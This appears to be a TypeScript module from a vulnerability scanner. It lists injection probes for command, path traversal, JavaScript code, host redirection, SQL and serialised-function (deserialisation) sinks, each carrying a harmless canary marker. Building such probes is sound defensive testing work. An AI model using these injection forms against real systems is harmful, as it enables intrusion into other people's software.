/** What inputs are tried with where a sink was reached: each proves the hole in another place of a command, a path, a program. */
import { canary, canaryHost } from './canary.ts'

const up = '../'.repeat(12)
const call = `${canary}()`

const commands: readonly string[] = [
  `;${canary};`,
  `$(${canary})`,
  canary,
  `\`${canary}\``,
  `|${canary}`,
  `&${canary} `,
  `\n${canary}\n`,
  `';${canary};'`,
  `";${canary};"`,
]
const paths: readonly string[] = [
  `${up}${canary}`,
  `/${up}${canary}`,
  `/${canary}`,
  `${'....//'.repeat(12)}${canary}`,
  encodeURIComponent(`${up}${canary}`),
  `${'%2e%2e%2f'.repeat(12)}${canary}`,
  `${'..\\'.repeat(12)}${canary}`,
]
const programs: readonly string[] = [
  call,
  `'+${call}+'`,
  `"+${call}+"`,
  `\${${call}}`,
  `0;${call}//`,
  `0);${call}//`,
  `';${call}//`,
  `";${call}//`,
  `x;${call};`,
  `0});${call}//`,
  `']);${call}//`,
  `\n${call}\n`,
  // Where a variable, a parameter or a key is named.
  `x=${call},y`,
  `[${call}]`,
]
const hosts: readonly string[] = [
  `http://${canaryHost}/`,
  `https://${canaryHost}/`,
  canaryHost,
  `@${canaryHost}/`,
  `.${canaryHost}/`,
  `${canaryHost}/`,
  `//${canaryHost}/`,
  `${canaryHost}#`,
  `\\\\${canaryHost}/`,
]
const statements: readonly string[] = [
  `0 OR ${call}`,
  `' OR ${call} -- `,
  `" OR ${call} -- `,
  `\` OR ${call} -- `,
  `0) OR ${call} -- `,
  `') OR ${call} -- `,
]
/** Forms in which known packages write functions. */
const serialised: readonly string[] = [
  JSON.stringify(call),
  JSON.stringify({ a: call }),
  JSON.stringify({ a: `_$$ND_FUNC$$_function(){${call}}()` }),
  JSON.stringify({ a: { __js_function: `function(){${call}}` } }),
  `(function(){${call}})()`,
  `{a:${call}}`,
  `!!js/function 'function(){${call}}'`,
  `a: !!js/function 'function(){${call}}'`,
  call,
]

/** By what was reached. */
export const payloads = { commands, paths, programs, hosts, statements, serialised } as const
export type Payloads = keyof typeof payloads

/** What stands in the place of the texts of a serialised value. */
export const functionTexts: readonly string[] = [call, `function(){${call}}`, `()=>${call}`]
